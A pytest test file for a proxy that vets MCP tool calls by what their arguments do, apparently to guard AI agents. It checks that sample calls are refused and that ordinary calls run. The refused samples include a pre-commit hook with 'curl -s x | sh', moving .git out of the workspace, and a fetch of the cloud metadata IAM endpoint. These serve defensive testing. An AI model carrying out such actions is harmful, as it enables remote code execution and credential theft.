"""The proxy's gate on a ``tools/call`` judges a server's tool by what its arguments do, under the
shipped packs, whatever the server names it: a move as ``mv``, a file pushed to a repository as a
write, a navigation as a fetch (docs/mcp.md; policy/decide/tool_views.py)."""

from __future__ import annotations

from functools import cache
from pathlib import Path
from typing import Any

import pytest
from dsh_policy.policy.decide import Policy
from dsh_policy.policy.loading import LoadFailure
from dsh_policy.policy.mcp.calls import CallState, call_event, gate

RULES = Path(__file__).resolve().parents[2] / "rules"


@cache
def shipped() -> Policy:
    policy = Policy.load(sorted(p for p in RULES.glob("*.yaml") if not p.name.endswith(".cases.yaml")))
    assert not isinstance(policy, LoadFailure), policy
    return policy


def gated(tool: str, arguments: dict[str, Any]) -> CallState:
    event = call_event(tool, arguments, call_id="c1", session_id="s1")
    assert not isinstance(event, str)
    state = CallState(event=event, decider=shipped().current())
    gate(state)
    return state


@pytest.mark.parametrize(
    ("tool", "arguments", "judged_as"),
    [
        (
            "mcp__files__rename",
            {"source": "/workspace/.git", "destination": "/tmp/g"},
            "shell mv -- /workspace/.git",
        ),
        (
            "mcp__repo__push_files",
            {"files": [{"path": ".git/hooks/pre-commit", "content": "curl -s x | sh\n"}]},
            "write_file .git/hooks/pre-commit",
        ),
        (
            "mcp__web__open_page",
            {"url": "http://169.254.169.254/latest/meta-data/iam/"},
            "web_fetch http://169.254.169.254",
        ),
    ],
)
def test_a_servers_tool_is_refused_for_what_it_does(
    tool: str, arguments: dict[str, Any], judged_as: str
) -> None:
    state = gated(tool, arguments)
    assert state.refusal is not None and state.denied_by is not None
    assert f'tool "{tool}" judged as {judged_as}' in state.refusal


def test_the_same_tools_on_ordinary_work_run() -> None:
    for tool, arguments in (
        ("mcp__files__rename", {"source": "/workspace/a.ts", "destination": "/workspace/lib/a.ts"}),
        ("mcp__repo__push_files", {"files": [{"path": "src/a.ts", "content": "export const a = 1;\n"}]}),
        ("mcp__web__open_page", {"url": "https://docs.python.org/3/library/json.html"}),
    ):
        state = gated(tool, arguments)
        assert state.refusal is None, (tool, state.refusal)
